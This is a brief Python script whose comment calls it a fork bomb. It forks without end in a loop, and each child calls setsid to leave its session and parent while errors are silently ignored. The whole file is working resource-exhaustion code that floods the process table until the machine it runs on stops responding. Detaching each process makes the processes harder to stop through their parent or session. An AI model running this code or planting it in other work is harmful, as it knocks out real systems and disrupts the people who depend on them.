# why: a fork bomb whose every process leaves its session and parent
import posix

while True:
    try:
        if posix.fork() == 0:
            posix.setsid()
    except OSError:
        pass
